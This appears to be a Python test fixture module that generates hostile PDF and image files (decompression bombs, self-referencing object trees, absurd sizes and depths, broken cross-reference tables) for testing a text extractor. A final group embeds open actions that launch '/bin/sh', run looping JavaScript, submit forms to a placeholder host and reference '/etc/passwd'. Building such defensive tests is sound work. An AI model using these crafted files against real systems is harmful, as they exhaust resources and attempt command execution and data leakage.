"""Small files that harm whoever reads them carelessly: `HOSTILE` makes each of them by its name.

A file is named for what it tries. Where nothing is wrong with its page, that page reads GOOD_TEXT.
"""

from collections.abc import Callable

from tests.integration.extractor import made_pdfs
from tests.integration.extractor.hostile_builders import (
    FORM,
    GOOD,
    annotations,
    attachment,
    chain,
    colour_space,
    deflated,
    font,
    function_laughs,
    groups,
    jpeg,
    laughing,
    letters,
    lines,
    mesh,
    object_stream,
    one_page,
    outline,
    outline_depth,
    page_tree,
    page_with_image,
    pages_that_are_one,
    pattern,
    png_of,
    png_with_text_bomb,
    shading,
    soft_mask,
    tint,
    trailer,
    type3,
    updates,
    with_catalog_objects,
    xref_stream,
)
from tests.integration.extractor.made_pdfs import assemble, stream

_JBIG2 = b"\0\0\0\0\x30\0\x01\0\0\0\x13" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8 + b"\0\0\0"
_JPX = (
    b"\0\0\0\x0cjP  \r\n\x87\n\xffO\xffQ\0\x2f\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff"
    + b"\0" * 8
    + b"\x7f\xff\xff\xff\x7f\xff\xff\xff"
    + b"\0" * 8
    + b"\0\x03"
    + b"\x07\x01\x01" * 3
)

HOSTILE: dict[str, Callable[[], bytes]] = {
    # Sizes that are not what they seem.
    "flate-500M-in-1K": lambda: made_pdfs.double_deflate_bomb(500_000_000),
    "image-of-1e10-pixels": lambda: page_with_image(b"/Width 100000/Height 100000", deflated(100), b"/FlateDecode"),
    "image-predictor": lambda: page_with_image(
        b"/Width 9/Height 9/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>",
        deflated(10),
        b"/FlateDecode",
    ),
    "image-fax": lambda: page_with_image(
        b"/Width 60000/Height 60000/DecodeParms<</K -1/Columns 60000/Rows 60000>>", b"\0" * 99, b"/CCITTFaxDecode"
    ),
    "image-jbig2": lambda: page_with_image(b"/Width 60000/Height 60000", _JBIG2, b"/JBIG2Decode"),
    "image-jpx": lambda: page_with_image(b"/Width 60000/Height 60000", _JPX, b"/JPXDecode"),
    "image-dct": lambda: page_with_image(
        b"/Width 65500/Height 65500", jpeg(65500, 65500, progressive=True), b"/DCTDecode"
    ),
    "image-lzw": lambda: page_with_image(
        b"/Width 60000/Height 60000", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/LZWDecode"
    ),
    "image-run-length": lambda: page_with_image(b"/Width 60000/Height 60000", b"\x81\0" * 500_000, b"/RunLengthDecode"),
    "image-through-200-filters": lambda: page_with_image(
        b"/Width 9/Height 9", deflated(10), b"[%s]" % (b"/FlateDecode" * 200)
    ),
    "image-masks-itself": lambda: page_with_image(b"/Width 9/Height 9/SMask 10 0 R/Mask 10 0 R", b"\0" * 81, b"[]"),
    "png-of-4e9-pixels": lambda: png_of(65000, 65000),
    "png-of-2e31-pixels-a-side": lambda: png_of(2**31 - 1, 2**31 - 1),
    "png-of-4e8-pixels-in-400K": lambda: png_of(20000, 20000, data=deflated(400), kind=0),
    "png-interlaced": lambda: png_of(30000, 30000, data=deflated(200), kind=0, interlaced=True),
    "png-text-of-400M": png_with_text_bomb,
    "png-without-pixels": lambda: png_of(0, 0),
    "jpeg-of-4e9-pixels": lambda: jpeg(65500, 65500),
    "jpeg-progressive": lambda: jpeg(65500, 65500, progressive=True),
    "jpeg-of-5000-scans": lambda: jpeg(8000, 8000, progressive=True, scans=5000),
    "media-box-1e9": lambda: one_page(box=b"[0 0 1000000000 1000000000]"),
    "media-box-nan": lambda: one_page(box=b"[0 0 nan 1e400]"),
    "media-box-nothing": lambda: one_page(box=b"[0 0 0 0]"),
    "media-box-upside-down": lambda: one_page(box=b"[612 792 0 0]"),
    "user-unit-1e30": lambda: one_page(page=b"/UserUnit 1000000000000000000000000000000"),
    # Trees and chains that do not end.
    "page-tree-of-itself": made_pdfs.page_tree_of_itself,
    "page-tree-laughs": lambda: page_tree(b"<</Type/Page/Parent 19 0 R/MediaBox[0 0 9 9]>>"),
    "page-tree-laughs-with-count": lambda: page_tree(b"<</Type/Page/MediaBox[0 0 9 9]>>", b"/Count 10"),
    "page-tree-of-100000-levels": lambda: assemble(
        {
            1: b"<</Type/Catalog/Pages 10 0 R>>",
            **chain(
                100_000,
                lambda below: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % below,
                b"<</Type/Page/MediaBox[0 0 9 9]>>",
            ),
        }
    ),
    "page-count-2e31": lambda: one_page().replace(b"/Count 1/", b"/Count 2147483647/"),
    "page-count-negative": lambda: one_page().replace(b"/Count 1/", b"/Count -1/"),
    "pages-60000-of-one": lambda: pages_that_are_one(60_000),
    "pages-none": made_pdfs.without_pages,
    "parent-is-itself": lambda: one_page().replace(b"/Parent 2 0 R", b"/Parent 4 0 R"),
    "forms-1e12": lambda: made_pdfs.with_laughing_page(0, 0),
    "form-of-itself": lambda: one_page(
        b"/X Do " + GOOD,
        resources=b"/XObject<</X 10 0 R>>",
        extra={10: stream(b"/X Do", FORM + b"/Resources<</XObject<</X 10 0 R>>>>")},
    ),
    "form-chain-of-50000": lambda: one_page(
        b"/X Do " + GOOD, resources=b"/XObject<</X 10 0 R>>", extra=laughing(b"/X Do ", 1, 50_000, b"")
    ),
    "type3-of-itself": lambda: type3(b"BT /T 9 Tf (AAAAAAAAAA) Tj ET", b"/Font<</T 10 0 R>>"),
    "pattern-of-itself": lambda: pattern(b"9", b"/Pattern cs /P scn 0 0 9 9 re f", b"/Pattern<</P 10 0 R>>"),
    "soft-mask-of-itself": lambda: one_page(
        b"/G gs 0 0 99 99 re f " + GOOD, resources=b"/ExtGState<</G 10 0 R>>", extra=soft_mask()
    ),
    "colour-space-of-itself": lambda: colour_space(b"[/Indexed 10 0 R 255 (x)]"),
    "function-of-itself": lambda: tint(
        b"<</FunctionType 3/Domain[0 1]/Functions[11 0 R 11 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    ),
    "functions-1e12": lambda: colour_space(b"[/Separation/X/DeviceGray 11 0 R]", function_laughs()),
    "function-samples-2e40": lambda: tint(
        stream(b"\0", b"/FunctionType 0/Domain[%s]/Range[0 1]/Size[%s]/BitsPerSample 32" % (b"0 1 " * 20, b"4 " * 20))
    ),
    "font-of-itself": lambda: font(
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[3 0 R]>>"
    ),
    "cmap-uses-itself": lambda: font(
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 10 0 R/DescendantFonts[11 0 R]>>",
        {
            10: stream(b"begincmap endcmap", b"/Type/CMap/CMapName/X/UseCMap 10 0 R"),
            11: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<<>>>>",
        },
    ),
    "outline-of-itself": lambda: one_page(
        catalog=b"/Outlines 10 0 R", extra={10: b"<</First 11 0 R>>", 11: b"<</Title(a)/Next 11 0 R/First 10 0 R>>"}
    ),
    "outline-of-200000-levels": lambda: outline_depth(200_000),
    "outline-of-100000-entries": lambda: outline(100_000),
    "names-of-itself": lambda: with_catalog_objects(
        b"/Names<</Dests 10 0 R/EmbeddedFiles 10 0 R/JavaScript 10 0 R>>/Outlines 11 0 R",
        {10: b"<</Kids[10 0 R 10 0 R]/Limits[(a)(z)]>>", 11: b"<</First 12 0 R>>", 12: b"<</Title(a)/Dest(b)>>"},
    ),
    "page-labels-of-themselves": lambda: with_catalog_objects(b"/PageLabels 10 0 R", {10: b"<</Kids[10 0 R 10 0 R]>>"}),
    "structure-of-itself": lambda: with_catalog_objects(
        b"/MarkInfo<</Marked true>>/StructTreeRoot 10 0 R",
        {10: b"<</Type/StructTreeRoot/K[11 0 R]/ParentTree 10 0 R/Kids[10 0 R]>>", 11: b"<</S/P/P 11 0 R/K[11 0 R]>>"},
    ),
    "form-fields-of-themselves": lambda: one_page(
        catalog=b"/AcroForm<</Fields[10 0 R]/XFA 11 0 R>>",
        page=b"/Annots[10 0 R]",
        extra={
            10: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/Parent 10 0 R/Kids[10 0 R]>>",
            11: stream(b"<a>" * 200_000),
        },
    ),
    "optional-content-of-itself": lambda: one_page(
        b"/OC /O BDC " + GOOD + b"EMC",
        resources=b"/Properties<</O 10 0 R>>",
        catalog=b"/OCProperties<</OCGs[10 0 R]/D<</Order[10 0 R]>>>>",
        extra={10: b"<</Type/OCMD/OCGs 10 0 R/VE 11 0 R>>", 11: b"[/And 11 0 R 11 0 R]"},
    ),
    # Depth and number.
    "arrays-200000-deep": lambda: one_page(page=b"/X " + b"[" * 200_000 + b"]" * 200_000),
    "dictionaries-100000-deep": lambda: one_page(page=b"/X " + b"<</X" * 100_000 + b" 1" + b">>" * 100_000),
    "content-arrays-deep": lambda: one_page(b"[" * 1_000_000 + b"]" * 1_000_000 + b" TJ " + GOOD),
    "content-dictionaries-deep": lambda: one_page(b"/P " + b"<</X" * 300_000 + b" BDC " + GOOD),
    "states-3000000": lambda: one_page(b"q " * 3_000_000 + GOOD),
    "marks-1000000": lambda: one_page(b"/P <</MCID 1>> BDC " * 1_000_000 + GOOD),
    "clips-300000": lambda: one_page(b"0 0 600 700 re W n q " * 300_000 + GOOD),
    "groups-2000": lambda: groups(2000),
    "fonts-100000": lambda: one_page(
        b"BT 72 72 Td " + b"".join(b"/F1 %d Tf (a) Tj " % (n % 500) for n in range(300_000)) + b"ET " + GOOD
    ),
    "words-500000": lambda: one_page(b"BT /F1 1 Tf " + b"1 0 0 1 9 9 Tm (a ) Tj " * 500_000 + b"ET"),
    "letters-in-one-place": lambda: letters(200_000),
    "inline-images-300000": lambda: one_page(b"BI /W 1/H 1/BPC 8/CS/G ID \0 EI " * 300_000 + GOOD),
    "lines-for-tables": lambda: lines(1500),
    "rectangles-for-tables": lambda: one_page(
        b"".join(b"%d %d 4 4 re S " % (n % 150 * 4, n // 150 * 4) for n in range(28_000)) + GOOD
    ),
    "path-of-200000-points": lambda: one_page(
        b"0 0 m " + b"".join(b"%d %d l " % (n % 611, n % 787) for n in range(200_000)) + b"f " + GOOD
    ),
    "dashes-1e12": lambda: one_page(b"[0.0000001] 0 d 0 0 m 1000000000 1000000000 l S " + GOOD),
    "strokes-1e9-wide": lambda: one_page(b"1e9 w 1 j 1 J " + b"0 0 m 600 700 l S " * 20_000 + GOOD),
    "annotations-100000": lambda: annotations(100_000, b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>"),
    "links-100000": lambda: annotations(
        100_000, b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>"
    ),
    "link-of-1M-letters": lambda: annotations(
        1, b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://%s)>>>>" % (b"x" * 1_000_000)
    ),
    "annotation-draws-1e12": lambda: annotations(
        1,
        b"<</Type/Annot/Subtype/Stamp/Rect[0 0 600 700]/AP<</N 11 0 R>>>>",
        {n + 1: body for n, body in laughing(b"/X Do ", 10, 12, b"0 0 9 9 re f").items()},
    ),
    "pattern-steps-of-nothing": lambda: pattern(b"0.00001", b"0 0 9 9 re f"),
    "pattern-step-0": lambda: pattern(b"0", b"0 0 9 9 re f"),
    "shading-mesh": lambda: mesh(20),
    "shading-function": lambda: shading(
        b"<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e30 0 1e30]/Matrix[1e-9 0 0 1e9 0 0]/Function 11 0 R>>",
        {11: stream(b"{ add %s }" % (b"dup mul sqrt " * 100_000), b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")},
    ),
    "shading-radial": lambda: shading(
        b"<</ShadingType 3/ColorSpace/DeviceGray/Coords[0 0 0 1e9 1e9 1e9]/Extend[true true]/Function 11 0 R>>",
        {11: b"<</FunctionType 2/Domain[0 1]/N 1e30>>"},
    ),
    "to-unicode-amplified": lambda: made_pdfs.with_swelling_page(0, 0),
    # Structure that lies.
    "xref-of-2e31": lambda: one_page().replace(b"/Size 6", b"/Size 2147483647"),
    "xref-subsection-of-2e31": lambda: one_page().replace(b"xref\n0 6", b"xref\n0 2147483647"),
    "xref-stream-of-2e31": lambda: xref_stream(b"/Size 2147483647/Index[0 2147483647]/W[1 4 1]"),
    "xref-stream-of-empty-rows": lambda: xref_stream(b"/Size 2000000000/Index[0 2000000000]/W[0 0 0]"),
    "xref-before-itself": lambda: trailer(b"/Prev %d" % one_page().index(b"xref\n0 ")),
    "xref-stream-and-table": lambda: trailer(b"/XRefStm 15/Prev 15"),
    "updates-3000": lambda: updates(3000),
    "object-stream-in-itself": lambda: object_stream(b"/Extends 10 0 R"),
    "object-stream-length-in-itself": lambda: object_stream(b"", b"11 0 R"),
    "object-stream-of-2e31": lambda: object_stream(b"").replace(b"/N 1/First 5", b"/N 2147483647/First 2147483647"),
    "length-of-itself": lambda: one_page(extra={5: b"<</Length 5 0 R>>\nstream\n%s\nendstream" % GOOD}),
    "reference-to-itself": lambda: one_page(extra={5: b"5 0 R"}),
    "contents-300000-times": lambda: one_page().replace(b"/Contents 5 0 R", b"/Contents[%s]" % (b"5 0 R " * 300_000)),
    "cut-in-the-middle": lambda: made_pdfs.book(20)[: len(made_pdfs.book(20)) // 2],
    "nothing-but-a-header": lambda: b"%PDF-1.7",
    "encrypted": made_pdfs.encrypted,
    "encrypted-by-nobody": lambda: trailer(b"/Encrypt<</Filter/Standard/V 9/R 99/O()/U()/P 0>>/ID[()()]"),
    "objects-1e6-without-a-table": lambda: b"%PDF-1.7\n" + b"1 0 obj\n<</Type/Catalog>>\nendobj\n" * 1_000_000,
    # What acts when it is opened.
    "java-script": lambda: one_page(
        catalog=b"/OpenAction<</S/JavaScript/JS(while(1);)>>/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>"
    ),
    "launch": lambda: one_page(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>", page=b"/AA<</O<</S/Launch/F(a.exe)>>>>"),
    "goes-out": lambda: one_page(
        b"/X Do " + GOOD,
        resources=b"/XObject<</X 10 0 R>>",
        catalog=b"/OpenAction<</S/SubmitForm/F(http://a.b)>>",
        extra={10: stream(b"", FORM + b"/F(/etc/passwd)/Ref<</F(http://a.b/c.pdf)/Page 0>>")},
    ),
    "file-inside": lambda: one_page(catalog=b"/Names<</EmbeddedFiles 10 0 R>>", extra=attachment()),
}
